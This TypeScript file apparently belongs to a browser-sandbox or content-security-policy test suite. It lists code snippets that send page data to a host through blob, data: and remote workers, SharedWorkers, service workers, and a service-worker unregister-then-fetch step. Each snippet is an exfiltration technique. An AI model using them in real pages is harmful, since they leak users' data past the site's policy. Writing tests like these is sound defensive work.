import { blobWorker, page, type Channel } from './channel.ts';

/** Workers that could get a policy of their own, and getting rid of the service worker. */
export const workerChannels: readonly Channel[] = [
  page('blob worker fetch', blobWorker("`fetch('${U.h}/bw?${U.d}',{mode:'no-cors'})`")),
  page('blob module worker import', blobWorker("`import '${U.h}/bw-import.js?${U.d}'`", ",{type:'module'}")),
  page('blob worker importScripts', blobWorker("`importScripts('${U.h}/bw-is-script.js?${U.d}')`")),
  page('blob worker in blob worker', blobWorker("`new Worker(URL.createObjectURL(new Blob([\"fetch('${U.h}/bw2?${U.d}',{mode:'no-cors'})\"])))`")),
  page('data: worker', "new Worker('data:text/javascript,'+encodeURIComponent(`fetch('${U.h}/dw?${U.d}',{mode:'no-cors'})`))"),
  page('remote worker', `new Worker(U.h+'/worker.js?'+U.d)`),
  page('blob SharedWorker', "new SharedWorker(URL.createObjectURL(new Blob([`fetch('${U.h}/sw?${U.d}',{mode:'no-cors'})`])))"),
  page('data: SharedWorker', "new SharedWorker('data:text/javascript,'+encodeURIComponent(`fetch('${U.h}/dsw?${U.d}',{mode:'no-cors'})`))"),
  page('service worker from a remote URL', `await navigator.serviceWorker.register(U.h+'/sw-worker.js?'+U.d)`),
  page(
    'service worker from a blob',
    "await navigator.serviceWorker.register(URL.createObjectURL(new Blob([`fetch('${U.h}/sw2?${U.d}')`],{type:'text/javascript'})))",
  ),
  page(
    'unregister, then fetch',
    `const r=await navigator.serviceWorker?.getRegistration();await r?.unregister();await fetch(U.h+'/unreg?'+U.d,{mode:'no-cors'})`,
    { last: true },
  ),
];
